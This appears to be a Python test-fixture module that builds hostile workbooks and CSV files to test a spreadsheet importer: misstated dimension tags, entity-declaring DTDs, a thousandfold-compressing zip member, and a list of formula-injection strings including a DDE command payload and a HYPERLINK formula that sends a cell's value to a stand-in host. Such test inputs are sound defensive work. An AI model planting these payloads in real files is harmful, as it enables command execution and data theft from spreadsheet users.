"""Hostile input files for the import tests, built on the fly.

Workbooks are written with openpyxl and then altered inside the zip, the way someone would
craft them by hand: a ``<dimension>`` that names fewer rows than the sheet has, a DTD with
an entity in a sheet or in the shared strings, a member that unpacks a thousandfold.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable, Iterable
from io import BytesIO

from openpyxl import Workbook

# Text that a spreadsheet would run as a formula if it were written as one.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")',
    "+41-1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

DTD = b'<!DOCTYPE x [<!ENTITY e "ett ord">]>'


def workbook(rows: Iterable[Iterable], *, shared_strings: bool = False) -> bytes:
    """A workbook of ``rows`` on its first sheet.

    With ``shared_strings`` the text cells are stored in ``xl/sharedStrings.xml``, as Excel
    writes them (openpyxl writes them inline).
    """
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(list(row))
    out = BytesIO()
    book.save(out)
    data = out.getvalue()
    return to_shared_strings(data) if shared_strings else data


def rewrite(data: bytes, changes: dict[str, Callable[[bytes], bytes] | bytes]) -> bytes:
    """The zip ``data`` with members changed (a function of the old bytes) or added."""
    source = zipfile.ZipFile(BytesIO(data))
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in names:
            content = source.read(name)
            change = changes.get(name)
            if callable(change):
                content = change(content)
            elif change is not None:
                content = change
            target.writestr(name, content)
        for name, change in changes.items():
            if name not in names:
                target.writestr(name, change if isinstance(change, bytes) else change(b""))
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def understated(data: bytes, ref: str = "A1:B2") -> bytes:
    """The workbook with its first sheet's ``<dimension>`` saying ``ref``."""
    return rewrite(
        data,
        {
            SHEET: lambda xml: re.sub(
                rb'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>'.encode(), xml
            )
        },
    )


def with_dtd(data: bytes, member: str = SHEET) -> bytes:
    """The workbook with a DTD declaring an entity before ``member``'s root element."""

    def add(xml: bytes) -> bytes:
        if xml.startswith(b"<?xml"):
            end = xml.index(b"?>") + 2
            return xml[:end] + DTD + xml[end:]
        return DTD + xml

    return rewrite(data, {member: add})


def with_entity_in_shared_strings(data: bytes) -> bytes:
    """A DTD in ``xl/sharedStrings.xml`` and a string that uses its entity."""
    data = with_dtd(data, "xl/sharedStrings.xml")
    return rewrite(data, {"xl/sharedStrings.xml": lambda xml: xml.replace(b"<t>", b"<t>&e;", 1)})


def with_bomb(data: bytes, size: int = 8 * 1024 * 1024) -> bytes:
    """The workbook with an extra member of ``size`` zero bytes (it packs about 1:1000)."""
    return rewrite(data, {"xl/media/padding.bin": b"\0" * size})


def to_shared_strings(data: bytes) -> bytes:
    """Inline strings (openpyxl's way) moved into a shared-strings part (Excel's way)."""
    source = zipfile.ZipFile(BytesIO(data))
    sheet = source.read(SHEET).decode()
    strings: list[str] = []

    def shared(match: re.Match) -> str:
        strings.append(match.group(2))
        return f'<c r="{match.group(1)}" t="s"><v>{len(strings) - 1}</v></c>'

    sheet = re.sub(
        r'<c r="([A-Z]+\d+)" t="inlineStr"><is><t(?: xml:space="preserve")?>(.*?)</t></is></c>',
        shared,
        sheet,
    )
    table = "".join(f"<si><t>{text}</t></si>" for text in strings)
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">{table}</sst>'
    ).encode()
    types = source.read("[Content_Types].xml").decode()
    if "sharedStrings" not in types:
        types = types.replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
    rels = source.read("xl/_rels/workbook.xml.rels").decode()
    if "sharedStrings" not in rels:
        rels = rels.replace(
            "</Relationships>",
            '<Relationship Id="rIdShared" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>",
        )
    return rewrite(
        data,
        {
            SHEET: sheet.encode(),
            "xl/sharedStrings.xml": xml,
            "[Content_Types].xml": types.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
        },
    )


def csv_lines(header: str, line: Callable[[int], str], count: int) -> bytes:
    """A CSV file generated on the fly: the header and ``count`` lines."""
    return (header + "\n" + "".join(line(i) + "\n" for i in range(count))).encode()
